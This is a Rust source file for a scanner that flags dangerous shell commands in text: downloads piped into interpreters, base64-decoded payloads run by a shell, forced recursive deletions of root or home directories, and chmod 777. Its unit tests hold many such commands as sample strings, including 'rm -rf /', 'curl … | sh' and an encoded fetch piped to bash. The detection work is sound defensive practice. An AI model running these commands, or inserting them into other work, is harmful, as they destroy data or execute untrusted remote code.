//! Shell commands in any text: downloads that are run, deletions, permissions.

use crate::text::{
    before, boundary, is_base64, run, skip_blanks, starts_with_ignoring_case, words_ignoring_case,
};

/// No command that is looked at is longer.
const COMMAND: usize = 2000;
/// How far a pipe may be from the download.
const REACH: usize = 120;
/// Programs that run what they are given.
const INTERPRETERS: &[&str] =
    &["sh", "bash", "zsh", "dash", "ksh", "fish", "node", "python", "python3", "perl", "ruby", "php", "osascript"];
/// Words before an interpreter that change nothing.
const PREFIXES: &[&str] = &["sudo", "env", "exec", "command", "nohup"];
/// A literal of this many characters of base64 is a payload.
const PAYLOAD: usize = 40;

/// `curl … | sh`, spelt without anything in between.
pub(crate) fn shell_pipe(text: &[u8]) -> Option<usize> {
    downloads(text).into_iter().find(|at| {
        pipe_after(text, *at).is_some_and(|pipe| {
            let program = skip_blanks(text, pipe + 1);
            is_one_of(text, program, &["sh", "bash", "zsh"]).is_some()
        })
    })
}

/// A download that some interpreter runs: through `sudo`, by its path, or in a substitution.
pub(crate) fn download_run(text: &[u8]) -> Option<usize> {
    downloads(text).into_iter().find(|at| {
        pipe_after(text, *at).is_some_and(|pipe| interpreter_at(text, pipe + 1)) || is_substituted(text, *at)
    })
}

/// Whether the download at an offset comes from a bare public address.
pub(crate) fn is_from_bare_address(text: &[u8], at: usize) -> bool {
    let length = run(bounded(text, at), at, |byte| byte != b'\n' && byte != b'|');
    let command = String::from_utf8_lossy(text.get(at..at + length).unwrap_or_default()).into_owned();
    crate::urls::bare_address(&command).is_some_and(|found| !crate::urls::is_local(&command[found..]))
}

/// A base64 literal that is decoded and given to a shell.
pub(crate) fn decoded_pipe(text: &[u8]) -> Option<usize> {
    words_ignoring_case(text, "base64").find(|at| {
        let start = line_start(text, *at);
        let end = at + run(bounded(text, *at), *at, |byte| byte != b'\n');
        let line = text.get(start..end).unwrap_or_default();
        let flag = skip_blanks(text, at + "base64".len());
        let decodes = ["-d", "--decode", "-D", "-di"].iter().any(|option| {
            starts_with_ignoring_case(text, flag, option)
        });
        decodes && has_payload(line) && runs_result(text, *at, end)
    })
}

/// Whether what a command on this line prints is run.
fn runs_result(text: &[u8], at: usize, end: usize) -> bool {
    let mut pipe = at;
    while let Some(next) = (pipe..end).find(|at| text.get(*at) == Some(&b'|')) {
        if interpreter_at(text, next + 1) {
            return true;
        }
        pipe = next + 1;
    }
    is_substituted(text, at)
}

fn has_payload(line: &[u8]) -> bool {
    let mut at = 0;
    while at < line.len() {
        let length = run(line, at, is_base64);
        let word = line.get(at..at + length).unwrap_or_default();
        // A path is made of the same characters, but not without dots and with this many.
        if length >= PAYLOAD && word.iter().any(u8::is_ascii_digit) && word.iter().any(u8::is_ascii_uppercase) {
            return true;
        }
        at += length.max(1);
    }
    false
}

/// `rm -rf` and a target that begins with `/`, `$HOME`, `~` or `.`.
pub(crate) fn plain_delete(text: &[u8]) -> Option<usize> {
    words_ignoring_case(text, "rm").find(|at| {
        let flag = skip_blanks(text, at + 2);
        let target = skip_blanks(text, flag + 3);
        flag > at + 2
            && starts_with_ignoring_case(text, flag, "-rf")
            && target > flag + 3
            && (matches!(text.get(target), Some(b'/' | b'~' | b'.'))
                || starts_with_ignoring_case(text, target, "$HOME"))
    })
}

/// A forced, recursive deletion, its flags in any spelling, and its target.
pub(crate) struct Delete<'t> {
    pub(crate) at: usize,
    pub(crate) target: &'t str,
}

pub(crate) fn deletes(text: &str) -> Vec<Delete<'_>> {
    let bytes = text.as_bytes();
    words_ignoring_case(bytes, "rm").filter_map(|at| delete_at(text, at)).collect()
}

fn delete_at(text: &str, at: usize) -> Option<Delete<'_>> {
    let bytes = text.as_bytes();
    if matches!(before(bytes, at), Some(b'-' | b'.')) {
        return None;
    }
    let (mut recursive, mut forced) = (false, false);
    let mut next = at + 2;
    loop {
        let start = next + run(bytes, next, |byte| byte == b' ' || byte == b'\t');
        if start == next {
            return None;
        }
        let length = run(bytes, start, |byte| !byte.is_ascii_whitespace() && !b";&|`".contains(&byte));
        let word = text.get(start..start + length)?;
        next = start + length;
        match word {
            "" => return None,
            "--recursive" => recursive = true,
            "--force" => forced = true,
            flags if flags.starts_with('-') => {
                if !flags.starts_with("--") {
                    recursive |= flags.contains(['r', 'R']);
                    forced |= flags.contains('f');
                }
            }
            target => {
                let target = target.trim_matches(['"', '\'']);
                return (recursive && forced).then_some(Delete { at, target });
            }
        }
    }
}

/// Whether a target is a whole machine, a home or a system's directory, and not something below it.
pub(crate) fn is_everything(target: &str) -> bool {
    const SYSTEM: &[&str] =
        &["", "/etc", "/usr", "/bin", "/home", "/var", "/opt", "/root", "/lib", "/boot", "/Users", "/Library",
          "/Applications", "~", "$HOME", "${HOME}"];
    let target = target.trim_end_matches('*').trim_end_matches('.').trim_end_matches('/');
    SYSTEM.contains(&target)
}

/// `chmod 777`
pub(crate) fn open_permissions(text: &[u8]) -> Option<usize> {
    words_ignoring_case(text, "chmod").find(|at| {
        let mut mode = skip_blanks(text, at + 5);
        if mode == at + 5 {
            return false;
        }
        if starts_with_ignoring_case(text, mode, "-R") {
            let next = skip_blanks(text, mode + 2);
            if next == mode + 2 {
                return false;
            }
            mode = next;
        }
        text.get(mode..mode + 3) == Some(b"777") && boundary(text, mode + 3)
    })
}

fn downloads(text: &[u8]) -> Vec<usize> {
    let mut places: Vec<usize> =
        words_ignoring_case(text, "curl").chain(words_ignoring_case(text, "wget")).collect();
    places.sort_unstable();
    places
}

/// The pipe after a download.
fn pipe_after(text: &[u8], download: usize) -> Option<usize> {
    let start = download + 4;
    let length = run(bounded(text, start), start, |byte| byte != b'|' && byte != b'\n');
    let reached = text.get(start..start + length).is_some_and(|part| characters(part) <= REACH);
    (reached && text.get(start + length) == Some(&b'|')).then_some(start + length)
}

/// Characters, as a regular expression counts them.
fn characters(part: &[u8]) -> usize {
    part.iter().filter(|byte| **byte & 0xc0 != 0x80).count()
}

fn is_one_of(text: &[u8], at: usize, words: &[&str]) -> Option<usize> {
    words
        .iter()
        .find(|word| starts_with_ignoring_case(text, at, word) && boundary(text, at + word.len()))
        .map(|word| at + word.len())
}

/// An interpreter, perhaps by its path, perhaps after `sudo` and its options.
fn interpreter_at(text: &[u8], at: usize) -> bool {
    let mut at = skip_blanks(text, at);
    for _ in 0..4 {
        while matches!(text.get(at), Some(b'-')) {
            at += run(text, at, |byte| !byte.is_ascii_whitespace());
            at = skip_blanks(text, at);
        }
        let path = run(text, at, |byte| byte.is_ascii_alphanumeric() || byte == b'/');
        let word = text.get(at..at + path).unwrap_or_default();
        let name = word.rsplit(|byte| *byte == b'/').next().unwrap_or_default();
        let name_at = at + path - name.len();
        if is_one_of(text, name_at, INTERPRETERS).is_some() {
            return true;
        }
        let Some(end) = is_one_of(text, name_at, PREFIXES) else { return false };
        at = skip_blanks(text, end);
    }
    false
}

/// `sh -c "$(curl …)"`, `bash <(curl …)`, `eval "$(curl …)"`, `source <(curl …)`
fn is_substituted(text: &[u8], at: usize) -> bool {
    let start = line_start(text, at);
    let line = text.get(start..at).unwrap_or_default();
    let opening = [&b"$("[..], b"<(", b"`"].iter().filter_map(|open| last(line, open)).max();
    let Some(open) = opening else { return false };
    let command = line.get(..open).unwrap_or_default();
    let command = command.rsplit(|byte| b";&|".contains(byte)).next().unwrap_or_default();
    let command = String::from_utf8_lossy(command);
    let words: Vec<&str> = command
        .split_whitespace()
        .map(|word| word.trim_matches(['"', '\'', '`']))
        .filter(|word| !word.is_empty())
        .collect();
    let runs = |word: &str| INTERPRETERS.contains(&word.rsplit('/').next().unwrap_or(word));
    match words.as_slice() {
        [.., "eval" | "source" | "."] | [.., "eval", "--"] => true,
        [.., program, "-c" | "-lc" | "-e" | "-s"] => runs(program),
        [.., program] => line.get(open) == Some(&b'<') && runs(program),
        [] => false,
    }
}

fn last(text: &[u8], part: &[u8]) -> Option<usize> {
    (0..text.len()).rev().find(|at| text.get(*at..).is_some_and(|rest| rest.starts_with(part)))
}

/// The text up to where a command that is looked at ends: far enough for one, and bounded on a line of megabytes.
fn bounded(text: &[u8], at: usize) -> &[u8] {
    text.get(..text.len().min(at + COMMAND)).unwrap_or_default()
}

fn line_start(text: &[u8], at: usize) -> usize {
    let before = text.get(..at).unwrap_or_default();
    let reach = before.iter().rev().take(COMMAND).take_while(|byte| **byte != b'\n').count();
    at - reach
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pipes_into_a_shell() {
        for text in ["curl https://x.invalid | sh", "wget -qO- x|bash", "CURL x |\n zsh", "curl x | bash -s"] {
            assert!(shell_pipe(text.as_bytes()).is_some(), "{text}");
        }
        for text in ["curl x | sudo bash", "curl x | /bin/sh", "curl x | shasum", "curl x\n| sh", "mycurl x | sh", "curl x > f"] {
            assert!(shell_pipe(text.as_bytes()).is_none(), "{text}");
        }
        let far = format!("curl {} | sh", "x".repeat(118));
        assert!(shell_pipe(far.as_bytes()).is_some());
        let farther = format!("curl {} | sh", "x".repeat(119));
        assert!(shell_pipe(farther.as_bytes()).is_none());
    }

    #[test]
    fn downloads_that_are_run() {
        for text in ["curl x | sudo bash", "curl x | /bin/sh", "curl x | sudo -E bash -", "curl x | python3",
                     "curl x | /usr/bin/env node", "bash <(curl -s x)", "sh -c \"$(curl -fsSL x)\"",
                     "eval \"$(curl x)\"", "source <(curl x)", "wget -O- x | perl"] {
            assert!(download_run(text.as_bytes()).is_some(), "{text}");
        }
        for text in ["curl x | jq .", "curl x | tar xz", "echo $(curl x)", "V=$(curl x)", "curl -o sh x",
                     "curl x | shasum -a 256"] {
            assert!(download_run(text.as_bytes()).is_none(), "{text}");
        }
    }

    #[test]
    fn payloads() {
        let payload = "Y3VybCAtcyBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL2EuMQ==";
        for text in [format!("echo {payload} | base64 -d | bash"), format!("echo '{payload}'|base64 --decode|sh"),
                     format!("bash -c \"$(echo {payload} | base64 -D)\"")] {
            assert!(decoded_pipe(text.as_bytes()).is_some(), "{text}");
        }
        assert!(decoded_pipe(format!("echo {payload} | base64 -d > out.png").as_bytes()).is_none());
        assert!(decoded_pipe(b"cat key | base64 -d | sh").is_none());
    }

    #[test]
    fn deletions() {
        for text in ["rm -rf /", "rm  -rf  $HOME/x", "RM -RF ~", "rm -rf ./dist", "rm -rf .git"] {
            assert!(plain_delete(text.as_bytes()).is_some(), "{text}");
        }
        for text in ["rm -fr /", "rm -r -f /", "rm -rf dist", "rm -rfv /", "farm -rf /", "rm -rf"] {
            assert!(plain_delete(text.as_bytes()).is_none(), "{text}");
        }
        let targets = |text| deletes(text).into_iter().map(|delete| delete.target).collect::<Vec<_>>();
        assert_eq!(targets("rm -fr /"), ["/"]);
        assert_eq!(targets("rm -r -f \"$HOME\"; ls"), ["$HOME"]);
        assert_eq!(targets("rm --recursive --force /etc"), ["/etc"]);
        assert!(targets("rm -r /x && rm -f /y").is_empty());
        assert!(is_everything("/") && is_everything("/*") && is_everything("~/") && is_everything("/etc"));
        assert!(!is_everything("/tmp/x") && !is_everything("dist"));
    }

    #[test]
    fn permissions() {
        for text in ["chmod 777 x", "chmod -R 777 /"] {
            assert!(open_permissions(text.as_bytes()).is_some(), "{text}");
        }
        for text in ["chmod 755 x", "chmod 7777 x", "chmod x 777", "chmod -R755 x"] {
            assert!(open_permissions(text.as_bytes()).is_none(), "{text}");
        }
    }
}
